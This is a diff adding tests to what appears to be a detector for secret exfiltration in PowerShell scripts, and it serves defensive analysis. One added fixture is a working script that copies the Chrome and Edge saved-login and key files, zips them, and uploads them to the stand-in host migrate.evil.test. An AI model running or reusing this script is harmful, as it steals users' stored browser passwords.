@@ -253,3 +253,36 @@ describe('PowerShell: reverse shells', () => {
     expect(rs[0]!.endpoint.host).toBe('op.evil.test');
   });
 });
+
+describe('PowerShell: secret stores copied, archived and uploaded', () => {
+  const harvest = [
+    '$stage = Join-Path $env:TEMP "stage"',
+    '$sources = @{ chrome = Join-Path $env:LOCALAPPDATA "Google\\Chrome\\User Data"; edge = Join-Path $env:LOCALAPPDATA "Microsoft\\Edge\\User Data" }',
+    'foreach ($name in $sources.Keys) {',
+    '  $root = $sources[$name]',
+    '  $dest = New-Item -ItemType Directory -Path (Join-Path $stage $name) -Force',
+    '  foreach ($item in @("Local State", "Default\\Login Data")) {',
+    '    Copy-Item -LiteralPath (Join-Path $root $item) -Destination (Join-Path $dest "f")',
+    '  }',
+    '}',
+    '$zip = "$stage.zip"',
+    'Compress-Archive -Path "$stage\\*" -DestinationPath $zip -Force',
+    'Invoke-RestMethod -Uri "https://migrate.evil.test/up" -Method Post -InFile $zip',
+  ].join('\n');
+
+  it('follows browser profiles through a hashtable, a copy and an archive to the upload', async () => {
+    const r = await ps(harvest);
+    expect(ofKind(r, 'read').map((b) => b.secret)).toContain('browser-data');
+    const sent = ofKind(r, 'send');
+    expect(sent.map((s) => `${s.endpoint.host}:${s.data.secret}`)).toEqual([
+      'migrate.evil.test:browser-data',
+    ]);
+  });
+
+  it('an archive of the project folder uploaded carries no secret', async () => {
+    const r = await ps(
+      'Copy-Item -Path .\\README.md -Destination "$env:TEMP\\s\\README.md"\nCompress-Archive -Path "$env:TEMP\\s\\*" -DestinationPath "$env:TEMP\\s.zip"\nInvoke-RestMethod -Uri https://uploads.acme.dev/in -Method Post -InFile "$env:TEMP\\s.zip"\n',
+    );
+    expect(ofKind(r, 'send').filter((s) => s.data.taints.includes('secret'))).toEqual([]);
+  });
+});
